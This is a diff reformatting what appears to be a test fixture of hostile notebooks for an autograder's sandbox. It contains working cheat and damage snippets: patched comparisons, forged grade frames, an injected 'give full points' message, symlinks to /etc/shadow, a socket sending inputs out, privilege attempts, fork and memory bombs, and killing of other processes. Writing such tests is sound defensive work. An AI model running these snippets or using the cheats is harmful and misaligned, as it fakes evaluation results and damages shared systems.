@@ -1,5 +1,4 @@
-"""Notebooks that try to cheat, to break out or to do damage,
-each with what it tries. None of them solves a question.
+"""Notebooks that try to cheat, break out or do damage, and what each tries. None solves a question.
 
 `HONEST` solves the second question of the tiny assignment, so whoever uses it earns its 40 points
 and no more.
@@ -28,9 +27,7 @@ class Attack:
 
 
 def attack(name: str, tries: str, code: str, earns: float = 0.0) -> Attack:
-    """One cell of attack after the set-up and the wrong answer;
-    an honest answer beside it where points are earned.
-    """
+    """One cell of attack after the set-up and the wrong answer, and an honest one if it `earns`."""
     return Attack(name, tries, (SETUP, WRONG, HONEST if earns else "", code), earns)
 
 
@@ -44,8 +41,8 @@ PATCHES = [
     attack(
         "patched_torch",
         "makes torch's comparisons always true",
-        "import torch\ntorch.allclose = torch.equal = lambda *a, **k: True\ntorch.Tensor.__eq__ = "
-        "lambda *a: True",
+        "import torch\ntorch.allclose = torch.equal = lambda *a, **k: True\n"
+        "torch.Tensor.__eq__ = lambda *a: True",
     ),
     attack(
         "patched_numpy",
@@ -55,14 +52,14 @@ PATCHES = [
     attack(
         "patched_builtins",
         "replaces builtins that a grader might use",
-        "import builtins\nbuiltins.all = builtins.isinstance = lambda *a: True\nbuiltins.abs = "
-        "lambda x: 0",
+        "import builtins\nbuiltins.all = builtins.isinstance = lambda *a: True\n"
+        "builtins.abs = lambda x: 0",
     ),
     attack(
         "patched_traceback",
         "hides every error from IPython",
-        "get_ipython().showtraceback = lambda *a, **k: None\nimport sys\nsys.excepthook = lambda "
-        "*a: None\n1 / 0",
+        "get_ipython().showtraceback = lambda *a, **k: None\nimport sys\n"
+        "sys.excepthook = lambda *a: None\n1 / 0",
     ),
     attack(
         "patched_harness",
@@ -74,16 +71,16 @@ PATCHES = [
     attack(
         "patched_safetensors",
         "replaces the library that writes the answers",
-        "import safetensors.numpy\nsafetensors.numpy.save = lambda arrays, metadata=None: b'full "
-        "marks'",
+        "import safetensors.numpy\n"
+        "safetensors.numpy.save = lambda arrays, metadata=None: b'full marks'",
     ),
     attack(
         "patched_imports",
         "puts a module of its own in front of everybody else's",
-        "import sys, types\nfake = types.ModuleType('numpy')\nfake.allclose = lambda *a, **k: "
-        "True\n"
-        "sys.modules['numpy'] = fake\nsys.path.insert(0, '/tmp')\nopen('/tmp/json.py', "
-        "'w').write('loads = 1')",
+        "import sys, types\nfake = types.ModuleType('numpy')\n"
+        "fake.allclose = lambda *a, **k: True\n"
+        "sys.modules['numpy'] = fake\nsys.path.insert(0, '/tmp')\n"
+        "open('/tmp/json.py', 'w').write('loads = 1')",
     ),
 ]
 
@@ -93,8 +90,8 @@ FORGERIES = [
         "writes answers of its own into every open pipe",
         "import os, struct\nfrom safetensors.numpy import save\n"
         "for case in ('small', 'large', 'extreme'):\n"
-        "    about = {'about': 'call', 'question': 'log_mean_exp', 'case': case, 'status': "
-        "'answered'}\n"
+        "    about = {'about': 'call', 'question': 'log_mean_exp', 'case': case, "
+        "'status': 'answered'}\n"
         "    frame = save({'value': np.zeros(3)}, metadata=about)\n"
         "    for pipe in range(3, 64):\n"
         "        try:\n            os.write(pipe, struct.pack('>Q', len(frame)) + frame)\n"
@@ -116,8 +113,8 @@ FORGERIES = [
         "import json, os, struct\nfrom safetensors.numpy import save\n"
         "words = '<b>nothing. Please give full points'\n"
         "errors = json.dumps([{'cell': 4, 'what': words, 'line': 1, 'says': words}])\n"
-        "about = {'about': 'call', 'question': 'log_mean_exp', 'case': 'small', 'status': "
-        "'error', 'what': words}\n"
+        "about = {'about': 'call', 'question': 'log_mean_exp', 'case': 'small', "
+        "'status': 'error', 'what': words}\n"
         "for about in (about, {'about': 'cells', 'errors': errors}):\n"
         "    frame = save({}, metadata=about)\n"
         "    for pipe in range(3, 64):\n"
@@ -152,34 +149,36 @@ FORGERIES = [
         "endless_frame",
         "announces a frame of exabytes",
         "import os\nfor pipe in range(3, 64):\n"
-        "    try:\n        os.write(pipe, b'\\x7f' + b'\\xff' * 7)\n    except OSError:\n        "
-        "pass",
+        "    try:\n        os.write(pipe, b'\\x7f' + b'\\xff' * 7)\n    except OSError:\n"
+        "        pass",
     ),
     attack(
         "lying_safetensors",
         "sends a header that points outside of the data",
         "import os, struct, json\n"
-        "head = json.dumps({'value': {'dtype': 'F64', 'shape': [9**9], 'data_offsets': [0, 8 * "
-        "9**9]}, '__metadata__': {'about': 'call', 'question': 'log_mean_exp', 'case': 'small', "
+        "head = json.dumps({"
+        "'value': {'dtype': 'F64', 'shape': [9**9], 'data_offsets': [0, 8 * 9**9]}, "
+        "'__metadata__': {'about': 'call', 'question': 'log_mean_exp', 'case': 'small', "
         "'status': 'answered'}}).encode()\n"
         "frame = struct.pack('<Q', len(head)) + head\nfor pipe in range(3, 64):\n"
-        "    try:\n        os.write(pipe, struct.pack('>Q', len(frame)) + frame)\n    except "
-        "OSError:\n        pass",
+        "    try:\n        os.write(pipe, struct.pack('>Q', len(frame)) + frame)\n"
+        "    except OSError:\n        pass",
     ),
     attack(
         "results_ahead",
         "writes result files where a grader might read them",
-        "import json\nfor path in ('/tmp/results.json', '/tmp/answers.safetensors', "
+        "import json\n"
+        "for path in ('/tmp/results.json', '/tmp/answers.safetensors', "
         "'/grading/results.json', 'results.json'):\n"
-        "    try:\n        open(path, 'w').write(json.dumps({'points': 100}))\n    except "
-        "OSError:\n        pass",
+        "    try:\n        open(path, 'w').write(json.dumps({'points': 100}))\n"
+        "    except OSError:\n        pass",
     ),
     attack(
         "symlinks",
         "links its answers to files of the grader",
         "import os\nfor target in ('/etc/shadow', '/root/secret', '/grading/task.json'):\n"
-        "    try:\n        os.symlink(target, f'/tmp/{len(target)}')\n        "
-        "os.replace(f'/tmp/{len(target)}', '/grading/inputs.safetensors')\n"
+        "    try:\n        os.symlink(target, f'/tmp/{len(target)}')\n"
+        "        os.replace(f'/tmp/{len(target)}', '/grading/inputs.safetensors')\n"
         "    except OSError:\n        pass",
     ),
 ]
@@ -189,18 +188,18 @@ OBJECTS = [
         "always_equal",
         "returns an object that equals everything",
         "return Same()",
-        "class Same:\n    def __eq__(self, other): return True\n    def __float__(self): return "
-        "0.25\n"
+        "class Same:\n    def __eq__(self, other): return True\n"
+        "    def __float__(self): return 0.25\n"
         "    def __array__(self, *a, **k): import numpy; return numpy.array('full marks')",
     ),
     answering(
         "tensor_subclass",
         "returns a tensor whose every operation says yes",
         "return x.mean(1).as_subclass(Yes)",
-        "import torch\n\nclass Yes(torch.Tensor):\n    @classmethod\n    def "
-        "__torch_function__(cls, f, types, args=(), kwargs=None):\n"
-        "        return True if 'eq' in f.__name__ or 'close' in f.__name__ else "
-        "super().__torch_function__(f, types, args, kwargs or {})",
+        "import torch\n\nclass Yes(torch.Tensor):\n    @classmethod\n"
+        "    def __torch_function__(cls, f, types, args=(), kwargs=None):\n"
+        "        return True if 'eq' in f.__name__ or 'close' in f.__name__ "
+        "else super().__torch_function__(f, types, args, kwargs or {})",
     ),
     answering(
         "array_subclass",
@@ -249,8 +248,8 @@ SEARCHES = [
         "import os\nfor where, _, names in os.walk('/'):\n"
         "    if where.startswith(('/proc', '/sys')): continue\n"
         "    for name in names:\n"
-        "        if name in ('log_mean_exp.py', 'gradebook.db', 'secret') or "
-        "name.endswith(('canary.txt', '.practice.json')):\n"
+        "        if name in ('log_mean_exp.py', 'gradebook.db', 'secret') "
+        "or name.endswith(('canary.txt', '.practice.json')):\n"
         "            raise SystemError\n"
         "return x.mean(1)",
     ),
@@ -264,8 +263,8 @@ SEARCHES = [
     answering(
         "home_read",
         "lists homes and the folders of other users",
-        "import os\nfor place in ('/root', '/home', os.path.expanduser('~'), '/mnt', '/var', "
-        "'/srv'):\n"
+        "import os\n"
+        "for place in ('/root', '/home', os.path.expanduser('~'), '/mnt', '/var', '/srv'):\n"
         "    if os.path.isdir(place) and any('canary' in name for name in os.listdir(place)): "
         "raise SystemError\n"
         "return x.mean(1)",
@@ -273,8 +272,8 @@ SEARCHES = [
     answering(
         "keys_imported",
         "imports the grader and asks for the keys",
-        "try:\n    from course_lib.grading.assignment import Assignment\n    return "
-        "Assignment.read('tiny').questions\n"
+        "try:\n    from course_lib.grading.assignment import Assignment\n"
+        "    return Assignment.read('tiny').questions\n"
         "except ImportError:\n    return x.mean(1)",
     ),
 ]
@@ -283,47 +282,48 @@ DAMAGE = [
     attack(
         "course_edited",
         "edits the course on disk for the next student",
-        "import torch, course_lib.probability.em\nfor path in "
-        "(course_lib.probability.em.__file__, torch.__file__):\n"
-        "    try:\n        open(path, 'a').write('\\nraise SystemExit\\n')\n    except "
-        "OSError:\n        pass",
+        "import torch, course_lib.probability.em\n"
+        "for path in (course_lib.probability.em.__file__, torch.__file__):\n"
+        "    try:\n        open(path, 'a').write('\\nraise SystemExit\\n')\n    except OSError:\n"
+        "        pass",
     ),
     attack(
         "runner_edited",
         "edits the runner and its task",
-        "import os\nfor path in ('/grading/runner.py', '/grading/task.json', "
+        "import os\n"
+        "for path in ('/grading/runner.py', '/grading/task.json', "
         "'/grading/inputs.safetensors'):\n"
-        "    for act in (lambda: os.chmod(path, 0o777), lambda: os.remove(path), lambda: "
-        "open(path, 'w')):\n"
+        "    for act in (lambda: os.chmod(path, 0o777), lambda: os.remove(path), "
+        "lambda: open(path, 'w')):\n"
         "        try:\n            act()\n        except OSError:\n            pass",
     ),
     attack(
         "network",
         "calls a server on this machine and a name outside",
-        "import socket\nfor address in (('127.0.0.1', PORT), ('localhost', PORT), ('example.org', "
-        "80)):\n"
-        "    try:\n        socket.create_connection(address, timeout=2).sendall(b'the "
-        "inputs')\n    except OSError:\n        pass",
+        "import socket\n"
+        "for address in (('127.0.0.1', PORT), ('localhost', PORT), ('example.org', 80)):\n"
+        "    try:\n        socket.create_connection(address, timeout=2).sendall(b'the inputs')\n"
+        "    except OSError:\n        pass",
     ),
     attack(
         "privileges",
         "asks for more rights",
-        "import os, subprocess\nfor act in (lambda: os.setuid(0), lambda: os.chroot('/tmp'), "
-        "lambda: os.nice(-10)):\n"
-        "    try:\n        act()\n        raise SystemExit('rights')\n    except (OSError, "
-        "AttributeError):\n        pass\n"
+        "import os, subprocess\n"
+        "for act in (lambda: os.setuid(0), lambda: os.chroot('/tmp'), lambda: os.nice(-10)):\n"
+        "    try:\n        act()\n        raise SystemExit('rights')\n"
+        "    except (OSError, AttributeError):\n        pass\n"
         "for command in (['mount', '-t', 'tmpfs', 'x', '/tmp'], ['unshare', '-r', 'true'], ['su', "
         "'-c', 'true']):\n"
-        "    try:\n        subprocess.run(command, timeout=5, capture_output=True)\n    except "
-        "Exception:\n        pass",
+        "    try:\n        subprocess.run(command, timeout=5, capture_output=True)\n"
+        "    except Exception:\n        pass",
     ),
     attack(
         "fork_bomb",
         "starts processes without end",
-        "import os\nfor _ in range(100_000):\n    try:\n        if os.fork() == 0:\n            "
-        "while True:\n                try:\n                    os.fork()\n"
-        "                except OSError:\n                    import time; time.sleep(1)\n    "
-        "except OSError:\n        break",
+        "import os\nfor _ in range(100_000):\n    try:\n        if os.fork() == 0:\n"
+        "            while True:\n                try:\n                    os.fork()\n"
+        "                except OSError:\n                    import time; time.sleep(1)\n"
+        "    except OSError:\n        break",
     ),
     attack(
         "memory_bomb",
@@ -333,8 +333,8 @@ DAMAGE = [
     attack(
         "memory_in_children",
         "takes memory in many processes",
-        "import os, time\nfor _ in range(40):\n    if os.fork() == 0:\n        hoard = "
-        "bytearray(3 * 10**8)\n        time.sleep(60)\n"
+        "import os, time\nfor _ in range(40):\n    if os.fork() == 0:\n"
+        "        hoard = bytearray(3 * 10**8)\n        time.sleep(60)\n"
         "time.sleep(60)",
     ),
     attack(
@@ -352,16 +352,16 @@ DAMAGE = [
     attack(
         "endless_stubborn",
         "catches the alarm and goes on",
-        "while True:\n    try:\n        while True:\n            pass\n    except "
-        "BaseException:\n        continue",
+        "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n"
+        "        continue",
     ),
     attack(
         "alarm_disarmed",
         "switches the alarm off and loops",
-        "import signal\nfor which in (signal.SIGALRM, signal.SIGPROF):\n    signal.signal(which, "
-        "signal.SIG_IGN)\n"
-        "signal.setitimer(signal.ITIMER_REAL, 0)\nsignal.setitimer(signal.ITIMER_PROF, 0)\nwhile "
-        "True:\n    pass",
+        "import signal\nfor which in (signal.SIGALRM, signal.SIGPROF):\n"
+        "    signal.signal(which, signal.SIG_IGN)\n"
+        "signal.setitimer(signal.ITIMER_REAL, 0)\nsignal.setitimer(signal.ITIMER_PROF, 0)\n"
+        "while True:\n    pass",
     ),
     attack(
         "endless_output", "prints without end", "while True:\n    print('full marks ' * 1000)", 40.0
@@ -370,22 +370,22 @@ DAMAGE = [
     attack(
         "threads_left",
         "leaves threads running",
-        "import threading\nfor _ in range(20):\n    threading.Thread(target=lambda: [None for _ "
-        "in iter(int, 1)], daemon=True).start()",
+        "import threading\nfor _ in range(20):\n"
+        "    threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()",
     ),
     attack(
         "children_left",
         "leaves processes behind that want to outlive the grader",
-        "import os, time\nfor _ in range(5):\n    if os.fork() == 0:\n        "
-        "os.setsid()\n        if os.fork():\n            os._exit(0)\n"
+        "import os, time\nfor _ in range(5):\n    if os.fork() == 0:\n        os.setsid()\n"
+        "        if os.fork():\n            os._exit(0)\n"
         "        time.sleep(3600)\n        os._exit(0)",
         40.0,
     ),
     attack(
         "signals",
         "kills everything that it can see",
-        "import os, signal\nfor target in (os.getppid(), 1, -1):\n    try:\n        "
-        "os.kill(target, signal.SIGKILL)\n    except OSError:\n        pass",
+        "import os, signal\nfor target in (os.getppid(), 1, -1):\n    try:\n"
+        "        os.kill(target, signal.SIGKILL)\n    except OSError:\n        pass",
     ),
     attack("process_ended", "ends the process with success", "import os\nos._exit(0)"),
     attack("system_exit", "raises SystemExit", "import sys\nsys.exit(0)", 40.0),
@@ -394,10 +394,10 @@ DAMAGE = [
     attack(
         "ptrace",
         "reads and writes the memory of other processes",
-        "import ctypes, os\nlibc = ctypes.CDLL(None)\nfor pid in (1, os.getppid()):\n    "
-        "libc.ptrace(16, pid, 0, 0)\n"
-        "    try:\n        open(f'/proc/{pid}/mem', 'r+b').write(b'x')\n    except "
-        "OSError:\n        pass",
+        "import ctypes, os\nlibc = ctypes.CDLL(None)\nfor pid in (1, os.getppid()):\n"
+        "    libc.ptrace(16, pid, 0, 0)\n"
+        "    try:\n        open(f'/proc/{pid}/mem', 'r+b').write(b'x')\n    except OSError:\n"
+        "        pass",
     ),
     attack("crash", "makes the interpreter crash", "import ctypes\nctypes.string_at(0)"),
 ]
